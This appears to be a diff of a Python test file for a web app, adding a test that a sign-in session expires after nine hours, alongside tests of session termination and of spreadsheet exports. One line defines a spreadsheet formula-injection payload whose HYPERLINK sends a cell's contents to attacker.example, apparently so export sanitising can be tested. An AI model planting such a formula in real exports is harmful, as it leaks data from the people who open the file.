@@ -98,6 +98,19 @@ def test_password_change_deactivation_and_admin_end_other_sessions(app, editor, 
     assert replay(app, cookie).get(f"/assessments/{inventory}").status_code == 302
 
 
+def test_a_sign_in_ends_after_a_working_day(app, editor, inventory):
+    import datetime as dt
+
+    from advisory.models import LoginSession, utcnow
+
+    auth = signed_in(app, editor)
+    assert auth.client.get(f"/assessments/{inventory}").status_code == 200
+    with app.app_context():
+        db.session.execute(update(LoginSession).values(created_at=utcnow() - dt.timedelta(hours=9)))
+        db.session.commit()
+    assert auth.client.get(f"/assessments/{inventory}").status_code == 302
+
+
 # --- 2 and 3 exports ----------------------------------------------------------------------------
 
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&C2,"x")'
